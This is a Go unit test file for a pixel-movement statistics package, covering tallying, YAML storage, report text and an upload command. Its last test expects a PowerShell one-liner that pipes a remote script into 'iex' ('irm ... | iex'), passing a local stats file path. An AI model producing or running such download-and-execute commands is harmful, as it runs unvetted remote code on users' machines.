package stats

import (
	"math"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestRecordCycle: one cycle of vertical=-3, horizontal=2
func TestRecordCycle(t *testing.T) {
	tally := NewTally(Stats{})
	tally.Record(-3, 2)
	got := tally.Snapshot()
	want := Stats{TotalPixels: 5, Down: 3, Right: 2, SessionPixels: 5}
	if got != want {
		t.Fatalf("got %+v, want %+v", got, want)
	}
}

func TestRecordMonotonic(t *testing.T) {
	tally := NewTally(Stats{TotalPixels: 100, Up: 40, Left: 60, SessionPixels: 7})
	prev := tally.Snapshot()
	for _, d := range [][2]int{{1, 0}, {0, -4}, {0, 0}, {-9, 9}, {1000, -1000}} {
		tally.Record(d[0], d[1])
		cur := tally.Snapshot()
		if cur.TotalPixels < prev.TotalPixels || cur.Up < prev.Up || cur.Down < prev.Down ||
			cur.Left < prev.Left || cur.Right < prev.Right || cur.SessionPixels < prev.SessionPixels {
			t.Fatalf("counter decreased: %+v -> %+v", prev, cur)
		}
		prev = cur
	}
	if prev.TotalPixels != 100+1+4+18+2000 {
		t.Errorf("total = %d", prev.TotalPixels)
	}
	if prev.Up != 41+1000 || prev.Down != 9 || prev.Left != 64+1000 || prev.Right != 9 {
		t.Errorf("directions = %+v", prev)
	}
}

func TestStoreRoundTrip(t *testing.T) {
	s := NewStore(filepath.Join(t.TempDir(), "nested", "stats.yaml"))
	in := Stats{TotalPixels: 12, Up: 1, Down: 2, Left: 3, Right: 6, SessionPixels: math.MaxUint64}
	if err := s.Save(in); err != nil {
		t.Fatalf("Save failed: %v", err)
	}
	out, err := s.Load()
	if err != nil {
		t.Fatalf("Load failed: %v", err)
	}
	if out != in {
		t.Fatalf("got %+v, want %+v", out, in)
	}
}

func TestStoreLoadMissing(t *testing.T) {
	s := NewStore(filepath.Join(t.TempDir(), "none.yaml"))
	st, err := s.Load()
	if err != nil {
		t.Fatalf("Load failed: %v", err)
	}
	if st != (Stats{}) {
		t.Fatalf("expected zero stats, got %+v", st)
	}
}

// TestStoreLoadDamaged checks unknown and malformed keys read as zero
func TestStoreLoadDamaged(t *testing.T) {
	path := filepath.Join(t.TempDir(), "stats.yaml")
	body := "total_pixels: 42\ndir_up: -5\ndir_down: lots\nfavourite_colour: blue\ndir_right: 8\n"
	if err := os.WriteFile(path, []byte(body), 0644); err != nil {
		t.Fatal(err)
	}
	st, err := NewStore(path).Load()
	if err != nil {
		t.Fatalf("Load failed: %v", err)
	}
	want := Stats{TotalPixels: 42, Right: 8}
	if st != want {
		t.Fatalf("got %+v, want %+v", st, want)
	}
}

func TestReportText(t *testing.T) {
	st := Stats{TotalPixels: 3780, Up: 1, SessionPixels: 9}
	report := st.Report()
	if !strings.Contains(report, "1.00 virtual metres") {
		t.Errorf("report missing metres: %q", report)
	}
	if !strings.Contains(st.UploadPrompt(), "Pending Upload: 9 pixels") {
		t.Errorf("prompt missing pending count: %q", st.UploadPrompt())
	}
}

func TestUploadCommand(t *testing.T) {
	got := UploadCommand(`C:\Users\me\stats.yaml`, "https://example.com/u.ps1")
	want := "powershell -NoProfile -Command \"& { `$WASPath='C:\\Users\\me\\stats.yaml'; irm https://example.com/u.ps1 | iex }\""
	if got != want {
		t.Fatalf("got %s\nwant %s", got, want)
	}
}
